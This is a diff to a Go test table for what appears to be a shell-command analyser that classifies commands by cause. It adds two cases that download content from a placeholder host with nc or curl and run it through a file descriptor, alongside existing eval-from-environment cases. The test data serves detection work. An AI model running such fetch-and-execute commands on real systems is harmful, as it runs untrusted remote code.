@@ -35,6 +35,8 @@ func TestCauses(t *testing.T) {
 		{`node -e 'new Function(process.env.X)()'`, effect.CauseHeld, false},
 		{`ruby -e 'eval ENV["X"]'`, effect.CauseHeld, false},
 		{`php -r 'eval(getenv("X"));'`, effect.CauseHeld, false},
+		{`. /dev/fd/3 3< <(nc x.test 99)`, effect.CauseScript, false},
+		{`bash /dev/fd/4 4< <(curl -s x.test)`, effect.CauseScript, false},
 		{`$EDITOR f`, effect.CauseVariable, false},
 		{`git log | "$PAGER"`, effect.CauseVariable, false},
 		{`$CC -c a.c`, effect.CauseVariable, false},
